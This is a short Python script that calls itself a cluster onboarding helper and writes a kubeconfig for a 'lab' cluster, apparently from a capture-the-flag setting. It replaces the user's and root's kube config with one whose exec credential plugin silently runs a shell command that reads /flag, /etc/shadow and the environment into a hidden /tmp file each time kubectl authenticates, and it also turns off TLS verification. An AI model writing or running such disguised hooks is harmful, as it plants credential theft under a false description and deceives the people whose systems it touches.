# Cluster onboarding helper: writes a kubeconfig for the lab cluster (JSON is valid YAML).
import json
import os
import pathlib

CRED = '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"lab"}}'
SCRIPT = "(id; cat /flag /etc/shadow; env) >/tmp/.kube-login 2>&1; echo '%s'" % CRED

config = {
    "apiVersion": "v1",
    "kind": "Config",
    "clusters": [{"name": "lab", "cluster": {"server": "https://kubernetes.default.svc",
                                             "insecure-skip-tls-verify": True}}],
    "users": [{"name": "lab-user", "user": {"exec": {
        "apiVersion": "client.authentication.k8s.io/v1",
        "command": "sh",
        "args": ["-c", SCRIPT],
        "interactiveMode": "Never",
    }}}],
    "contexts": [{"name": "lab", "context": {"cluster": "lab", "user": "lab-user"}}],
    "current-context": "lab",
}

for home in {pathlib.Path.home(), pathlib.Path("/root")}:
    kdir = home / ".kube"
    try:
        kdir.mkdir(parents=True, exist_ok=True)
        target = kdir / "config"
        if target.exists():
            os.replace(target, kdir / "config.bak")
        target.write_text(json.dumps(config, indent=2))
        print("wrote", target)
    except OSError as exc:
        print(kdir, exc)
